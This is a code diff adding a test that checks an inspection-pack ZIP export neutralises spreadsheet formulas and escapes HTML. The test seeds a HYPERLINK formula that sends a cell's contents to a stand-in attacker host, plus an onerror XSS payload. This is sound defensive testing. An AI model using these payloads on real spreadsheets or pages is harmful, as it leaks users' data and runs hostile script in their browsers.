@@ -214,6 +214,35 @@ test.each(exporters)("%s: a trust whose every name is a formula exports none", a
     );
 });
 
+test("the pack for an inspection holds no live cell in any of its tables, and its page no element that somebody wrote", async () => {
+  const keeper = house.keeper.pool;
+  await keeper.query("update inspection.checked set seen = $1", ['=HYPERLINK("http://evil.example?x="&A1,"Open")']);
+  await keeper.query("update evidence.item set title = '<img src=x onerror=alert(1)>=1+1'");
+  const answer = await app.request("http://localhost/granite-coast/inspection/990001/pack.zip", {
+    headers: { Cookie: people.leader?.cookie ?? "" },
+  });
+  expect([answer.status, answer.headers.get("content-disposition")]).toEqual([
+    200,
+    'attachment; filename="inspection-pack-990001-2026-11-21.zip"',
+  ]);
+  const files = Object.entries(unzipSync(new Uint8Array(await answer.arrayBuffer()))).map(([name, bytes]) => ({
+    name,
+    text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes),
+  }));
+  const tables = files.filter(({ name }) => name.endsWith(".csv"));
+  const cells = tables.flatMap(({ text }) => readCsv(text).flat());
+  const live = cells.filter(({ text }) => isLive(text));
+  sayGate("export", { figure: `the pack: ${live.length} live cells of ${cells.length} in ${tables.length} tables`, target: "0" });
+  expect(tables).toHaveLength(6);
+  expect(live).toEqual([]);
+  expect(cells.some(({ text }) => text.startsWith("'=HYPERLINK"))).toBe(true);
+  const page = files.find(({ name }) => name === "pack.html")?.text ?? "";
+  expect([
+    page.includes("&lt;img src=x"),
+    /<(?!\/?(html|head|meta|title|style|body|h1|h2|p|table|thead|tbody|tr|th|td)\b|!doctype)/.test(page),
+  ]).toEqual([true, false]);
+});
+
 test("the walk met every kind of exporter", async () => {
   expect(exporters.length).toBeGreaterThanOrEqual(2);
   expect((await row<{ n: number }>("select count(*)::int as n from organisation.unit where name = '=1+1'")).n).toBe(1);
